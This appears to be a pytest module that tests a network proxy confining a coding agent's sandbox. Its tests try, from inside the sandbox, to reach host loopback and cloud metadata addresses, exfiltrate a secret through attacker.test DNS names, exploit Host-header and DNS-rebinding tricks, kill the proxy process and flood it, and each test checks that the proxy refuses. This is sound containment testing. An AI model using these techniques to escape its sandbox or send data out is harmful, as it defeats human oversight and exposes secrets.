"""Abusing the guard's own proxy: the one way out, asked to go where the policy says no.

The target is a token-serving HTTP server on the host's loopback. The policy extends coding-agent with
`allowed.test` and `*.example.com` on that server's port, pinned to 127.0.0.1 with `--resolve` (the static
host map: the engineer says where those names live). Each test first shows the token is there for the
taking bare, then asks the proxy (by hand, inside the sandbox) in a way that must be refused, judged by the
reply, by the server's request log and by the session's records in the signed trail.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess

import pytest
from support import network_escape

pytestmark = pytest.mark.timeout(120)


H = network_escape

NAMES = ["allowed.test", "api.example.com", "example.com", "badexample.com", "example.com.attacker.test",
         "api.example.com.attacker.test", "api-example.com", "meta.allowed.test", "private.allowed.test"]


class Net:
    """The module's targets: two loopback HTTP servers (the second granted only by CIDR) and the policy."""

    def __init__(self, world) -> None:
        self.world = world
        self.root = world.root / "www"
        self.root.mkdir()
        self.token = "PROXY-SECRET-" + os.urandom(8).hex()
        (self.root / "secret.txt").write_text(self.token + "\n")
        self.server = H.HttpServer(self.root)
        self.granted = H.HttpServer(self.root)  # reachable by address only through a CIDR rule
        self.port = self.server.port
        self.policy = H.write_policy(world.root / "network-proxy.yaml", [
            {"id": "standin", "allow": ["connect"], "ports": [self.port],
             "hosts": ["allowed.test", "*.example.com", "meta.allowed.test", "private.allowed.test"]},
            {"id": "grant-loopback-by-cidr", "allow": ["connect"], "cidrs": ["127.0.0.1/32"],
             "ports": [self.granted.port]},
        ])
        resolve = dict.fromkeys(NAMES, "127.0.0.1")
        resolve.update({"meta.allowed.test": "169.254.169.254", "private.allowed.test": "10.1.2.3"})
        self.resolve = H.resolve_args(resolve)

    def close(self) -> None:
        self.server.close()
        self.granted.close()

    def bare_fetch(self, port: int | None = None, host: str = "127.0.0.1") -> None:
        """The token is there for the taking without a guard (the control every attack starts from)."""
        url = f"http://{host}:{port or self.port}/secret.txt"
        code = ("import urllib.request, sys\n"
                "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
                f"print(opener.open({url!r}, timeout=5).read().decode().strip())\n")
        bare = self.world.bare_run(self.world.py(code))
        assert bare.stdout.strip() == self.token, bare

    def run(self, code: str, **kw):
        return self.world.guard_run(self.world.py(H.PROXY_CLIENT + code), policy=self.policy,
                                    extra_args=self.resolve, **kw)

    def requests_for_secret(self) -> int:
        return sum("secret.txt" in r for r in self.server.requests + self.granted.requests)


@pytest.fixture(scope="module")
def net(world):
    n = Net(world)
    try:
        yield n
    finally:
        n.close()


def _lines(run) -> dict[str, str]:
    out = {}
    for line in run.stdout.splitlines():
        label, _, rest = line.partition(" ")
        out[label] = rest
    return out


def test_allowed_name_through_every_protocol(world, net):
    """The control: the same hand-made requests reach the token when the policy allows the name."""
    run = net.run(
        f"show('connect', talk(b'CONNECT allowed.test:{net.port} HTTP/1.1\\r\\nHost: allowed.test:{net.port}\\r\\n\\r\\n'"
        f" b'GET /secret.txt HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n'))\n"
        f"show('http', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('socks', socks(3, bytes([12]) + b'allowed.test', {net.port}, b'GET /secret.txt HTTP/1.0\\r\\n\\r\\n'))\n")
    got = _lines(run)
    for label in ("connect", "http", "socks"):
        assert net.token in got.get(label, ""), run
    recs = [r for r in H.connections(world, run.session) if r["host"] == "allowed.test"]
    assert sorted(r["protocol"] for r in recs) == ["connect", "http", "socks5"], recs
    for r in recs:
        assert (r["port"], r["verdict"], r["rule_id"], r["address"]) == (net.port, "allow", "standin",
                                                                         "127.0.0.1"), r
        assert r["bytes_down"] > len(net.token), r


def test_connect_to_ip_literal_of_host_loopback(world, net):
    """coding-agent's `loopback` rule allows 127.0.0.1 by name, meaning the sandbox's own loopback; at the
    proxy that address is the host's, so only a CIDR grant opens it."""
    net.bare_fetch()
    before = net.requests_for_secret()
    run = net.run(
        f"show('connect', talk(b'CONNECT 127.0.0.1:{net.port} HTTP/1.1\\r\\n\\r\\nGET /secret.txt HTTP/1.0\\r\\n\\r\\n'))\n"
        f"show('http', http('GET http://127.0.0.1:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('http2', http('GET http://127.0.0.2:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('mapped', http('GET http://[::ffff:127.0.0.1]:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n")
    got = _lines(run)
    for label in ("connect", "http", "http2", "mapped"):
        assert "403 Forbidden" in got.get(label, ""), run
    for label in ("connect", "http", "mapped"):  # allowed by `loopback` as a name, refused as an address
        assert "guard:special-address" in got[label], run
    assert net.token not in run.stdout and net.requests_for_secret() == before
    for host in ("127.0.0.1", "127.0.0.2"):
        recs = [r for r in H.connections(world, run.session) if r["host"] == host]
        assert recs and all(r["verdict"] == "deny" and r["address"] is None for r in recs), recs


def test_socks5_address_types_to_host_loopback(world, net):
    """SOCKS5 with an IPv4, an IPv6 and an IPv4-mapped IPv6 address: each is decided as the IP it is."""
    net.bare_fetch()
    before = net.requests_for_secret()
    run = net.run(
        "import ipaddress\n"
        f"show('v4', socks(1, ipaddress.ip_address('127.0.0.1').packed, {net.port}, b'GET /secret.txt HTTP/1.0\\r\\n\\r\\n'))\n"
        f"show('v6', socks(4, ipaddress.ip_address('::1').packed, {net.port}, b'GET /secret.txt HTTP/1.0\\r\\n\\r\\n'))\n"
        f"show('mapped', socks(4, ipaddress.ip_address('::ffff:127.0.0.1').packed, {net.port}, b'GET /secret.txt HTTP/1.0\\r\\n\\r\\n'))\n"
        f"show('meta', socks(1, ipaddress.ip_address('169.254.169.254').packed, 80))\n"
        f"show('bind', talk(b'\\x05\\x01\\x00\\x05\\x02\\x00\\x01\\x7f\\x00\\x00\\x01' + ({net.port}).to_bytes(2, 'big')))\n"
        f"show('udp', talk(b'\\x05\\x01\\x00\\x05\\x03\\x00\\x01\\x7f\\x00\\x00\\x01' + ({net.port}).to_bytes(2, 'big')))\n")
    got = _lines(run)
    for label in ("v4", "v6", "mapped", "meta"):
        assert got.get(label, "").startswith("(b'\\x05\\x02"), run  # 0x02: not allowed by ruleset
    assert got.get("bind", "").startswith("b'\\x05\\x00\\x05\\x07"), run  # command not supported
    assert got.get("udp", "").startswith("b'\\x05\\x00\\x05\\x07"), run
    assert net.token not in run.stdout and net.requests_for_secret() == before
    hosts = {(r["host"], r["verdict"]) for r in H.connections(world, run.session)}
    assert {("127.0.0.1", "deny"), ("::1", "deny"), ("169.254.169.254", "deny")} <= hosts, hosts


def test_host_header_that_differs_from_the_target(world, net):
    """A Host header naming another destination than the one decided: refused, never forwarded."""
    net.bare_fetch()
    before = net.requests_for_secret()
    run = net.run(
        f"show('connect', talk(b'CONNECT allowed.test:{net.port} HTTP/1.1\\r\\nHost: 127.0.0.1:{net.port}\\r\\n\\r\\n'))\n"
        f"show('abs', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'))\n"
        f"show('port', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n'))\n"
        f"show('denied', http('GET http://denied.test:{net.port}/secret.txt HTTP/1.1\\r\\nHost: allowed.test:{net.port}\\r\\n\\r\\n'))\n"
        f"show('twohosts', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\nHost: allowed.test:{net.port}\\r\\nHost: evil.test\\r\\n\\r\\n'))\n"
        f"show('origin', http('GET /secret.txt HTTP/1.1\\r\\nHost: allowed.test:{net.port}\\r\\n\\r\\n'))\n")
    got = _lines(run)
    for label in ("connect", "abs", "port", "denied", "twohosts", "origin"):
        reply = got.get(label, "")
        assert "400 Bad Request" in reply or "403 Forbidden" in reply, run
    assert net.token not in run.stdout and net.requests_for_secret() == before
    recs = H.connections(world, run.session)
    assert len(recs) == 6 and all(r["verdict"] == "deny" for r in recs), recs


def test_dns_exfiltration_through_a_refused_name(world, net):
    """The name itself carries the data: the proxy must refuse it before any DNS query is made."""
    secret = "s3cr3t" + os.urandom(4).hex()
    names = {f"{secret}-c.attacker.test", f"{secret}-h.attacker.test", f"{secret}-s.attacker.test"}
    run = net.run(
        f"show('connect', talk(b'CONNECT {secret}-c.attacker.test:443 HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('http', http('GET http://{secret}-h.attacker.test/ HTTP/1.1\\r\\n\\r\\n'))\n"
        f"n = b'{secret}-s.attacker.test'\n"
        "show('socks', socks(3, bytes([len(n)]) + n, 443))\n")
    got = _lines(run)
    assert "403 Forbidden" in got.get("connect", "") and "403 Forbidden" in got.get("http", ""), run
    assert got.get("socks", "").startswith("(b'\\x05\\x02"), run
    recs = [r for r in H.connections(world, run.session) if r["host"] in names]
    assert len(recs) == 3, H.connections(world, run.session)
    for r in recs:  # decided, refused, never resolved
        assert (r["verdict"], r["addresses"], r["address"]) == ("deny", [], None), r
    decisions = [d for d in H.connect_decisions(world, run.session)
                 if d["action"]["target"].split(":")[0] in names]
    assert len(decisions) == 3, decisions  # one per name: the decision made before resolution, no second
    for d in decisions:
        assert not d["action"].get("addresses"), d
        assert d["decision"]["verdict"] == "deny", d


def test_allowed_name_resolving_to_metadata_private_or_host_loopback(world, net):
    """DNS rebinding: the name is allowed, the address it stands for is not."""
    net.bare_fetch(host="localhost")
    before = net.requests_for_secret()
    run = net.run(
        f"show('meta', http('GET http://meta.allowed.test:{net.port}/latest/meta-data/ HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('private', talk(b'CONNECT private.allowed.test:{net.port} HTTP/1.1\\r\\n\\r\\n'))\n"
        # `localhost` is allowed by name (coding-agent's loopback rule); the system resolver says 127.0.0.1
        f"show('localhost', http('GET http://localhost:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
        f"show('granted', http('GET http://localhost:{net.granted.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n")
    got = _lines(run)
    for label in ("meta", "private", "localhost"):
        assert "403 Forbidden" in got.get(label, ""), run
    assert net.token not in got["meta"] + got["private"] + got["localhost"], run
    # the same name to the port a CIDR rule grants for 127.0.0.1: allowed, so the refusal above is the
    # address rule at work, not a broken name
    assert net.token in got.get("granted", ""), run
    assert net.requests_for_secret() == before + 1
    recs = {(r["host"], r["port"]): r for r in H.connections(world, run.session)}
    meta = recs[("meta.allowed.test", net.port)]
    assert (meta["verdict"], meta["addresses"], meta["address"]) == ("deny", ["169.254.169.254"], None), meta
    private = recs[("private.allowed.test", net.port)]
    assert (private["verdict"], private["addresses"], private["address"]) == ("deny", ["10.1.2.3"], None)
    local = recs[("localhost", net.port)]
    assert (local["verdict"], local["address"]) == ("deny", None), local
    assert local["rule_id"] == "guard:special-address", local
    granted = recs[("localhost", net.granted.port)]
    assert (granted["verdict"], granted["address"]) == ("allow", "127.0.0.1"), granted


def test_wildcard_apex_and_lookalike_names(world, net):
    """`*.example.com` is any name below example.com: not the apex, not a lookalike, not a suffix trick.
    Every name here is pinned to the server, so a wrong decision would fetch the token."""
    names = ["example.com", "badexample.com", "example.com.attacker.test", "api.example.com.attacker.test",
             "api-example.com"]
    code = "".join(f"show({n!r}, http('GET http://{n}:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
                   for n in [*names, "api.example.com", "API.Example.COM."])
    net.bare_fetch()
    before = net.requests_for_secret()
    run = net.run(code)
    got = _lines(run)
    for n in names:
        assert "403 Forbidden" in got.get(n, "") and net.token not in got[n], run
    assert net.token in got.get("api.example.com", "") and net.token in got.get("API.Example.COM.", ""), run
    assert net.requests_for_secret() == before + 2
    recs = {r["host"]: r for r in H.connections(world, run.session)}
    for n in names:
        assert (recs[n]["verdict"], recs[n]["address"]) == ("deny", None), recs[n]
    assert recs["api.example.com"]["verdict"] == "allow" and recs["api.example.com"]["rule_id"] == "standin"


def test_allowed_name_on_another_port(world, net):
    """The name is pinned to the host's loopback for one port; its other services stay out of reach."""
    run = net.run("show('redis', talk(b'CONNECT allowed.test:6379 HTTP/1.1\\r\\n\\r\\n'))\n"
                  "show('ssh', talk(b'CONNECT allowed.test:22 HTTP/1.1\\r\\n\\r\\n'))\n")
    got = _lines(run)
    assert "403 Forbidden" in got.get("redis", "") and "403 Forbidden" in got.get("ssh", ""), run
    for port in (6379, 22):
        r = H.one_connection(world, run.session, "allowed.test", port)
        assert (r["verdict"], r["addresses"], r["address"]) == ("deny", ["127.0.0.1"], None), r


KILLER = r"""
import errno, os, signal, time
deadline = time.monotonic() + 20
while not os.path.exists(os.environ["PIDFILE"]) and time.monotonic() < deadline:
    time.sleep(0.02)
victim = int(open(os.environ["PIDFILE"]).read())
for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
    try:
        os.kill(victim, sig); print("sent", sig.name, flush=True)
    except OSError as e:
        print("refused", sig.name, errno.errorcode[e.errno], flush=True)
"""


def test_killing_the_proxy_from_inside(world, net):
    """The proxy lives in the `guard run` process; the agent learns its pid and signals it."""
    decoy = subprocess.Popen(["sleep", "60"])
    world.track(decoy.pid)
    pidfile = world.ws / "victim-bare.pid"
    pidfile.write_text(str(decoy.pid))
    bare = world.bare_run(world.py(KILLER), env={"PIDFILE": str(pidfile)})
    assert "sent SIGKILL" in bare.stdout and decoy.wait(timeout=10) == -signal.SIGKILL, bare

    pidfile = world.ws / "victim.pid"
    code = KILLER + (f"show('after', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n")
    argv = world.guard_run_argv(world.py(H.PROXY_CLIENT + code), policy=net.policy, extra_args=net.resolve)
    proc = subprocess.Popen(argv, env={**world.env, "PIDFILE": str(pidfile)}, cwd=world.ws, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    world.track(proc.pid)
    pidfile.write_text(str(proc.pid))
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, (out, err)
    assert "sent SIG" not in out, (out, err)
    for sig in ("SIGKILL", "SIGTERM", "SIGSTOP", "SIGINT"):
        assert f"refused {sig} ESRCH" in out or f"refused {sig} EPERM" in out, (out, err)
    assert net.token in out, (out, err)  # the proxy is alive and serving after the attempts


FLOOD = r"""
import os, socket, time
held = []
for i in range(int(os.environ["FLOOD"])):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(b"CONNECT allowed.test:")  # a request head that never ends
    held.append(s)
open(os.environ["READY"], "w").write(str(len(held)))
deadline = time.monotonic() + 40
while not os.path.exists(os.environ["GO"]) and time.monotonic() < deadline:
    time.sleep(0.05)
"""


def test_flooding_the_proxy_leaves_other_sessions_working(world, net):
    """500 half-open connections held on one session's proxy while a second session fetches; then the
    flooding session's own proxy still serves it."""
    ready, go = world.ws / "flood-ready", world.ws / "flood-go"
    code = FLOOD + f"show('self', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
    argv = world.guard_run_argv(world.py(H.PROXY_CLIENT + code), policy=net.policy, extra_args=net.resolve)
    proc = subprocess.Popen(argv, env={**world.env, "FLOOD": "500", "READY": str(ready), "GO": str(go)},
                            cwd=world.ws, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL)
    world.track(proc.pid)
    try:
        # the client creates the file, then writes the count: wait for the count, not the name
        assert world.wait_until(lambda: proc.poll() is not None
                                or (ready.exists() and ready.read_text() == "500"), timeout=60), \
            f"the flood did not finish: {ready.read_text() if ready.exists() else 'no file'!r}"
        assert proc.poll() is None, proc.communicate(timeout=60)
        other = net.run("".join(
            f"show('f{i}', http('GET http://allowed.test:{net.port}/secret.txt HTTP/1.1\\r\\n\\r\\n'))\n"
            for i in range(3)))
        got = _lines(other)
        assert all(net.token in got.get(f"f{i}", "") for i in range(3)), other
    finally:
        go.write_text("go")
        try:
            out, err = proc.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            out, err = proc.communicate()
    assert proc.returncode == 0 and net.token in out, (out, err)
    summary = next(json.loads(line) for line in reversed(err.splitlines()) if line.startswith("{"))
    recs = H.connections(world, summary["session"])
    half_open = [r for r in recs if r["rule_id"] == "guard:bad-request"]
    assert len(half_open) == 500, f"{len(half_open)} of 500 half-open connections recorded"
    assert any(r["verdict"] == "allow" and r["host"] == "allowed.test" for r in recs)


def test_trail_of_this_module_verifies(world, net):
    world.guard("daemon", "stop", check=False)
    world.check_trail()
